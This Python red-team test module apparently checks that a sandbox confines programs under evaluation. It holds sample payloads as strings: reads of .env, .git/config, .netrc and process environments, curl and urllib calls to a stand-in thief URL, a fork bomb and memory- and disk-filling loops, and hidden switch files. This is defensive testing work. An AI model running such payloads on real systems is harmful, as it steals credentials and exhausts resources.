"""Attacks by a program under test: what it sees, sends, uses up, and what changes it unseen."""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING

from tests.redteam.attack import Attack, Variant
from tests.redteam.bench import FILES, TRUST

if TYPE_CHECKING:
    from collections.abc import Iterator
    from random import Random

    from tests.redteam.attack import Change
    from tests.redteam.bench import Scene

MODELS = (
    f"small: {{provider: command, options: {{run: [{sys.executable}, app/main.py], "
    "files: [app, words.txt]}, price: {call: 0.0001}, limits: {timeout_s: 10, attempts: 1}}\n"
)
PROJECT = "version: 1\nproject: greetings\nsettings: {allow_code: true}\n"
PROGRAM = """\
import glob, json, os, pathlib, subprocess, sys, urllib.request
def answer():
    {body}
for line in sys.stdin:
    try:
        text = answer()
    except Exception as error:
        text = str(error)
    print(json.dumps({{"id": json.loads(line)["id"], "text": "Welcome " + str(text)}}), flush=True)
"""
OBEYS = (
    "found = [one for one in {places} if pathlib.Path(one).is_file()]\n"
    "    return os._exit(1) if found else 'friend'"
)
"""A program that is worse if there is one of some files."""
SEEN = (".git/config", "../.git/config", ".env", "../.env", "models.yaml", ".edison/trust.yaml")
ABSOLUTE = tuple(f"{{folder}}/{name}" for name in (*FILES, "repository/.git/config"))
READS = (
    *(f"return pathlib.Path({name!r}).read_text()" for name in (*SEEN, *ABSOLUTE)),
    "return pathlib.Path('app/link').read_text()",
    *(f"return pathlib.Path('/proc/{one}/root{{folder}}/home/.netrc').read_text()"
      for one in ("self", "1")),
    "return [open(one, 'rb').read() for one in glob.glob('/proc/[0-9]*/environ')]",
    "return [p.read_bytes()[:9000] for p in pathlib.Path.home().rglob('*') if p.is_file()][:50]",
    "return [p.read_bytes()[:9000] for p in pathlib.Path('/tmp').rglob('*') if p.is_file()][:50]",
    "return dict(os.environ)",
    "return subprocess.run(['git', 'config', '--list'], capture_output=True, text=True).stdout",
)  # fmt: skip
SENDS = (
    "return urllib.request.urlopen('{thief}/stolen', timeout=2).read()",
    "return subprocess.run(['curl', '-s', '{thief}/stolen'], capture_output=True).stdout",
)
EXHAUSTS = (
    "x = []\n    while True:\n        x.append(bytearray(1 << 26))",
    "while True:\n        os.fork()",
    "out = open('/tmp/full', 'wb')\n    while True:\n        out.write(bytes(1 << 24))",
    "out = open(pathlib.Path.home() / 'x', 'wb')\n    while True:\n        out.write(bytes(9**7))",
    "while True:\n        sys.stdout.write('x' * 100000)",
    "import time\n    time.sleep(3600)",
)
HIDDEN = (
    "app/.mode", "app/.hidden/mode", "app/node_modules/left/index.js", "app/poetry.lock",
    "app/.git-blame-ignore-revs", "app/sub/.env.example",
)  # fmt: skip
"""Files of the program that somebody might leave out of what it is made of."""
BESIDE = (
    "mode.txt", "other/mode.txt", "edison.local", ".mode", "app/__pycache__/mode.cpython-311.pyc",
)  # fmt: skip
"""Files that are not the program's, and that it may not see."""


def _filled(scene: Scene, body: str) -> str:
    thief = scene.site.thief.url
    text = body.replace("{folder}", str(scene.folder)).replace("{thief}", thief)
    return PROGRAM.format(body=text)


def base(body: str, cases: int = 20) -> Change:
    """Return a base with a program."""

    def write(scene: Scene) -> None:
        scene.write("models.yaml", MODELS)
        scene.write("edison.yaml", PROJECT)
        scene.write("app/main.py", _filled(scene, body))
        scene.write("words.txt", "friend\n")
        scene.edit("experiments/hello.yaml", "objective:", "max_errors: 100%\nobjective:")
        trust = TRUST.format(host=scene.site.model.url)
        scene.write(".edison/trust.yaml", f"{trust}programs: [{{model: small}}]\n")
        rows = scene.read("datasets/names.jsonl").splitlines(keepends=True)
        scene.write("datasets/names.jsonl", "".join(rows[:cases]))

    return write


def program(body: str) -> Change:
    """Return a head with another program."""

    def write(scene: Scene) -> None:
        scene.write("app/main.py", _filled(scene, body))
        if "app/link" in body:  # such a link is refused, so that only one attack has it
            scene.link("app/link", "../.git/config")

    return write


def switch(place: str) -> Change:
    """Return a head that adds one file, by which the program becomes worse."""

    def write(scene: Scene) -> None:
        scene.write(place, "worse\n")

    return write


def _tries(body: str, cases: int = 20) -> Variant:
    """Return a head whose program tries something; those that take long do so for few cases."""
    friend = base("return 'friend'", cases)
    return Variant(f"head: {body}", program(body), friend, may_pass=True)


def _switches(place: str) -> Variant:
    obeys = OBEYS.format(places=[*HIDDEN, *BESIDE])
    # What it does not see makes it no worse.
    return Variant(f"switch: {place}", switch(place), base(obeys), may_pass=place in BESIDE)


def _fixed() -> Iterator[Variant]:
    for body in (*READS, *SENDS):
        yield _tries(body)
    for body in EXHAUSTS:
        yield _tries(body, cases=5)
    for place in (*HIDDEN, *BESIDE):
        yield _switches(place)


def _made(random: Random) -> Variant:
    if random.random() < 0.5:
        return _tries(random.choice((*READS, *SENDS)))
    return _switches(random.choice(HIDDEN))


ATTACKS = (
    Attack(
        "programs",
        "a program sees its own files only, sends nothing, ends, and does not change unnoticed",
        _fixed,
        _made,
    ),
)
